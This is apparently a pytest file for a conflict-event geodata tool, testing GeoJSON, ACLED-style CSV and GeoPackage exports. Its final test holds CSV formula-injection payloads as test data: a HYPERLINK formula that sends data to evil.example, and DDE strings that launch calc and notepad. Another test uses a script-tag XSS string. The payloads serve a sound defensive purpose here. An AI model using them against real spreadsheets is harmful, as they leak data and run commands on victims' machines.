"""Exports read back with geopandas: coordinates at known places, filters, streaming."""

from __future__ import annotations

import csv
import json
import tracemalloc

import geopandas as gpd
import pytest
from click.testing import CliRunner

from geo.cli_store import export_cmd
from geo.errors import InputError
from geo.export import CSV_COLUMNS, export_events, iter_geojson
from geo.model import DateValue, Document, Event, Place
from geo.pipeline import Extracted
from geo.store import open_store
from tests.test_store import ALEPPO, rafah_document, sample_documents


@pytest.fixture
def store(tmp_path, gaz):
    st = open_store(tmp_path / "store.sqlite")
    for x in sample_documents(gaz):
        st.add(x)
    yield st
    st.close()


def test_geojson_is_rfc7946_with_lon_lat(store, tmp_path):
    out = tmp_path / "e.geojson"
    assert export_events(store, "geojson", out) == 3
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection" and "crs" not in data
    by_place = {f["properties"]["place_id"]: f for f in data["features"]}
    lon, lat = by_place[ALEPPO]["geometry"]["coordinates"]
    assert (round(lon, 2), round(lat, 2)) == (37.16, 36.20)
    assert by_place[None]["geometry"] is None  # an event without a place is kept, unlocated
    gdf = gpd.read_file(out)
    assert gdf.crs.to_epsg() == 4326 and len(gdf) == 3
    aleppo = gdf[gdf["place_id"] == ALEPPO].geometry.iloc[0]
    assert (round(aleppo.x, 2), round(aleppo.y, 2)) == (37.16, 36.20)


def test_features_built_by_the_store_match_the_event_rows(store, tmp_path):
    # the SQLite store writes each Feature's JSON itself; it must say what the rows say,
    # hostile text, accents, null places and empty lists included
    store.add(
        Extracted(
            Document(
                "hostile", 'Des frappes "<script>" à \\ Alep\u2028 ont tué 3 personnes.', "fr"
            ),
            "fr",
            DateValue(None),
            (),
            (Event("Battles", None, '"<script>alert(1)</script>" \\ é\u2028\t', 0, 9),),
            (),
        )
    )
    from geo.store import Store

    built = list(store.iter_event_features())
    reference = list(Store.iter_event_features(store))  # the interface's default, in Python
    assert len(built) == 4
    assert [json.loads(f) for f in built] == [json.loads(f) for f in reference]


def test_full_export_by_several_processes_is_the_same_file(store, tmp_path, monkeypatch):
    import geo.export

    for i in range(5):  # events in several id ranges, some without a place
        store.add(
            Extracted(
                Document(f"more-{i}", f"Des frappes à Alep ({i}).", "fr"),
                "fr",
                DateValue(None),
                (),
                tuple(Event("Battles", None, f"« {i} » é", 0, 9) for _ in range(3)),
                (),
            )
        )
    monkeypatch.setattr(geo.export, "PARALLEL_EXPORT_MIN", 10**9)
    assert export_events(store, "geojson", tmp_path / "one.geojson") == 18
    monkeypatch.setattr(geo.export, "PARALLEL_EXPORT_MIN", 1)
    calls = []
    original = type(store).write_all_features

    def spy(self, parts, **kw):
        calls.append(len(parts))
        return original(self, parts, **kw)

    monkeypatch.setattr(type(store), "write_all_features", spy)
    monkeypatch.setattr(geo.export.os, "cpu_count", lambda: 3)
    assert export_events(store, "geojson", tmp_path / "many.geojson") == 18
    assert calls == [3]
    one = (tmp_path / "one.geojson").read_bytes()
    assert (tmp_path / "many.geojson").read_bytes() == one
    assert len(json.loads(one)["features"]) == 18
    assert not [p.name for p in tmp_path.iterdir() if ".part" in p.name]  # no part left behind


def test_full_export_falls_back_when_the_store_changes_meanwhile(store, tmp_path, monkeypatch):
    import geo.export

    monkeypatch.setattr(geo.export, "PARALLEL_EXPORT_MIN", 1)
    monkeypatch.setattr(type(store), "write_all_features", lambda self, parts, **kw: None)
    assert export_events(store, "geojson", tmp_path / "e.geojson") == 3
    assert len(json.loads((tmp_path / "e.geojson").read_text("utf-8"))["features"]) == 3


def test_csv_has_acled_columns(store, tmp_path):
    out = tmp_path / "e.csv"
    assert export_events(store, "csv", out, place="Alep") == 1
    with out.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        assert tuple(reader.fieldnames) == CSV_COLUMNS
        (row,) = list(reader)
    assert row["event_type"] == "Explosions/Remote violence"
    assert row["sub_event_type"] == "Air/drone strike"
    assert (row["actor1"], row["actor2"]) == ("Russie", "civils")
    # a French document's place and country in French, not GeoNames' or English names
    assert (row["country"], row["location"], row["fatalities"]) == ("Syrie", "Alep", "30")
    assert (float(row["longitude"]), float(row["latitude"])) == pytest.approx(
        (37.16, 36.20), abs=0.01
    )
    assert row["time_precision"] == "1" and row["geo_precision"] == "1"
    assert row["notes"].startswith("Des frappes russes") and row["doc_id"] == "afp-a"


def test_gpkg_reads_back(store, tmp_path):
    out = tmp_path / "e.gpkg"
    assert export_events(store, "gpkg", out, bbox=(35, 34, 38, 37)) == 2
    gdf = gpd.read_file(out, layer="events")
    assert gdf.crs.to_epsg() == 4326 and sorted(gdf["doc_id"]) == ["afp-a", "afp-b"]
    row = gdf[gdf["location"] == "Alep"].iloc[0]
    assert (round(row.geometry.x, 2), round(row.geometry.y, 2)) == (37.16, 36.20)
    assert list(gdf.columns[:-1]) == list(CSV_COLUMNS)
    assert export_events(store, "gpkg", tmp_path / "none.gpkg", place="Atlantis") == 0
    assert len(gpd.read_file(tmp_path / "none.gpkg")) == 0


def test_bad_requests_touch_no_file(store, tmp_path):
    out = tmp_path / "e.geojson"
    with pytest.raises(InputError):
        export_events(store, "shp", out)
    with pytest.raises(InputError):
        export_events(store, "geojson", out, bbox=(0, 50, 10, 40))
    with pytest.raises(InputError):
        export_events(store, "geojson", out, colour="red")
    assert list(tmp_path.glob("e*")) == []


def test_cli_export(store, tmp_path):
    runner = CliRunner()
    out = tmp_path / "x.gpkg"
    res = runner.invoke(export_cmd, ["-o", str(out), "--db", str(store.path), "--type", "battles"])
    assert res.exit_code == 0, res.output
    assert "1 event(s) as gpkg" in res.output and len(gpd.read_file(out)) == 1
    res = runner.invoke(export_cmd, ["-o", str(tmp_path / "x.txt"), "--db", str(store.path)])
    assert res.exit_code != 0 and "--format" in res.output
    res = runner.invoke(
        export_cmd, ["-o", str(tmp_path / "y.csv"), "--db", str(store.path), "--bbox", "1,2"]
    )
    assert res.exit_code == 2 and "bbox" in res.output


def test_geojson_export_streams(tmp_path):
    """Memory stays flat while the output grows: events are written one by one."""
    aleppo = Place(ALEPPO, "Aleppo", "city", 36.20124, 37.16117, "SY")
    store = open_store(tmp_path / "big.sqlite")
    n = 6_000
    sentence = "Des frappes ont visé un quartier de la ville, selon une source locale. " * 12
    store.add(
        Extracted(
            Document("big", "Un long article. " * 5, "fr"),
            "fr",
            DateValue(None),
            (),
            tuple(Event("Battles", None, f"{i} {sentence}", 0, 9, place=aleppo) for i in range(n)),
            (),
        )
    )
    out = tmp_path / "big.geojson"
    tracemalloc.start()
    assert export_events(store, "geojson", out) == n
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    size = out.stat().st_size
    assert size > 5_000_000 and peak < size / 3, (peak, size)  # all at once: peak > size
    pieces = iter_geojson(store, place="Aleppo")
    assert next(pieces).startswith('{"type":"FeatureCollection"')


def test_exports_name_places_in_their_documents_language(store, gaz, tmp_path):
    # a French document's Aleppo is Alep; an English document's Rafaḩ is Rafah, in Palestine
    store.add(rafah_document(gaz))
    export_events(store, "geojson", tmp_path / "e.geojson")
    feats = json.loads((tmp_path / "e.geojson").read_text("utf-8"))["features"]
    props = {f["properties"]["place_id"]: f["properties"] for f in feats}
    aleppo, rafah = props[ALEPPO], props["gn:281102"]
    keys = ("place_name", "place_name_fr", "place_name_en", "doc_lang")
    assert [aleppo[k] for k in keys] == ["Alep", "Alep", "Aleppo", "fr"]
    assert [rafah[k] for k in keys] == ["Rafah", None, "Rafah", "en"]
    export_events(store, "csv", tmp_path / "e.csv")
    with (tmp_path / "e.csv").open(encoding="utf-8", newline="") as fh:
        rows = {r["doc_id"]: r for r in csv.DictReader(fh)}
    assert (rows["afp-a"]["location"], rows["afp-a"]["country"]) == ("Alep", "Syrie")
    rafah = rows["en-rafah"]
    assert (rafah["location"], rafah["country"]) == ("Rafah", "Palestinian Territories")


def test_csv_has_acled_codes_location_as_written_and_sources(store, gaz, tmp_path):
    from tests.test_store import ALEPPO_PROVINCE, SOCHI, report

    text = "Des hommes armés ont tué douze civils jeudi à Tin-Barkoudou, dans la région d'Alep."
    store.add(
        Extracted(
            Document("vac", text, "fr", published="2024-03-08"),
            "fr",
            DateValue("2024-03-08", "day"),
            (),
            (
                Event(
                    "Violence against civilians",
                    "Attack",
                    text,
                    0,
                    len(text),
                    date=DateValue("2024-03-07", "day", "jeudi"),
                    actors=("hommes armés", "civils"),
                    fatalities=12,
                    place=gaz.get(ALEPPO_PROVINCE),
                    place_precision="admin1",
                    location="Tin-Barkoudou",
                    geo_precision=3,
                    fatalities_phrase="douze civils",
                ),
            ),  # fmt: skip
            (),
        )
    )
    store.add(report(gaz, "m1", "Rencontre à Sotchi mardi.", SOCHI, "2024-09-03", source="AFP"))
    store.add(report(gaz, "m2", "Meeting in Sochi on Tuesday.", SOCHI, "2024-09-03"))
    out = tmp_path / "e.csv"
    export_events(store, "csv", out)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["doc_id"]: r for r in csv.DictReader(fh)}
    vac = rows["vac"]
    assert (vac["location"], vac["place_name"], vac["geo_precision"]) == (
        "Tin-Barkoudou", "Alep", "3",
    )  # fmt: skip
    assert (
        vac["disorder_type"] == "political violence" and vac["fatalities_phrase"] == "douze civils"
    )
    assert (vac["actor1"], vac["inter1"], vac["actor2"], vac["inter2"], vac["interaction"]) == (
        "hommes armés", "3", "civils", "7", "37",
    )  # fmt: skip
    a = rows["afp-a"]  # Russia in Syria: an external force
    assert (a["actor1"], a["inter1"], a["inter2"], a["interaction"]) == ("Russie", "8", "7", "78")
    b = rows["afp-b"]  # a month-precise date
    assert b["time_precision"] == "3" and b["actor1"] == "régime syrien"
    # one meeting reported twice: one row with both sources
    assert "m2" not in rows
    assert (rows["m1"]["n_sources"], rows["m1"]["sources"]) == ("2", "m1; m2")
    # GeoJSON and GeoPackage say the same
    gj = json.loads("".join(iter_geojson(store)))
    [m1] = [f for f in gj["features"] if f["properties"]["doc_id"] == "m1"]
    assert m1["properties"]["sources"] == ["m1", "m2"]
    # in Sochi: Russia at home (1), Turkey abroad (8)
    assert m1["properties"]["interaction"] == 18 and m1["properties"]["time_precision"] == 1
    export_events(store, "gpkg", tmp_path / "e.gpkg")
    gdf = gpd.read_file(tmp_path / "e.gpkg", layer="events")
    row = gdf[gdf["doc_id"] == "vac"].iloc[0]
    assert (row["location"], row["geo_precision"], row["interaction"]) == ("Tin-Barkoudou", 3, 37)


def test_csv_cells_that_start_like_a_formula_are_text(tmp_path, gaz):
    """OWASP's rule against CSV injection: a text cell beginning with =, +, -, @, tab or CR gets
    a leading apostrophe, so Excel and LibreOffice show it as text; numbers stay numbers (a
    negative longitude is no formula), and GeoJSON keeps the text as it is."""
    from geo.export import FORMULA_STARTS

    bamako = gaz.candidates("Bamako", lang="fr")[0].place
    assert bamako.lon < 0
    hostile = [
        '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1 après une tabulation",
        "\r=1+1 après un retour chariot",
    ]
    text = " ".join(hostile)
    store = open_store(tmp_path / "hostile.sqlite")
    store.add(
        Extracted(
            Document("formula", text, "fr", published="2024-05-02", source="=cmd|' /C notepad'!A0"),
            "fr",
            DateValue("2024-05-02", "day"),
            (),
            tuple(
                Event(
                    "Battles",
                    None,
                    s,
                    text.index(s),
                    text.index(s) + len(s),
                    actors=("@acteur", "-milice"),
                    fatalities=5,
                    place=bamako,
                    place_precision="city",
                    location="=Bamako",
                    fatalities_phrase="-5 morts",
                )
                for s in hostile
            ),
            (),
        )
    )
    out = tmp_path / "e.csv"
    assert export_events(store, "csv", out) == len(hostile)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["notes"] for r in rows) == sorted("'" + s for s in hostile)
    for row in rows:
        assert row["source"] == "'=cmd|' /C notepad'!A0"
        assert (row["location"], row["fatalities_phrase"]) == ("'=Bamako", "'-5 morts")
        assert row["actor1"] == "'@acteur" and row["actor2"] == "'-milice"
        # numbers stay numbers
        assert float(row["longitude"]) == pytest.approx(bamako.lon) and row["fatalities"] == "5"
        for col, cell in row.items():  # no cell left that a spreadsheet would evaluate
            assert not cell.startswith(FORMULA_STARTS) or col in ("longitude", "latitude"), col
    # the served CSV is the same file
    from web import create_app

    served = create_app({"STORE": store, "TESTING": True}).test_client().get("/export/events.csv")
    assert served.status_code == 200 and served.data == out.read_bytes()
    # the other formats keep the text as written
    features = json.loads("".join(iter_geojson(store)))["features"]
    assert sorted(f["properties"]["sentence"] for f in features) == sorted(hostile)
    export_events(store, "gpkg", tmp_path / "e.gpkg")
    gdf = gpd.read_file(tmp_path / "e.gpkg")
    assert sorted(gdf["notes"]) == sorted(hostile)
    store.close()
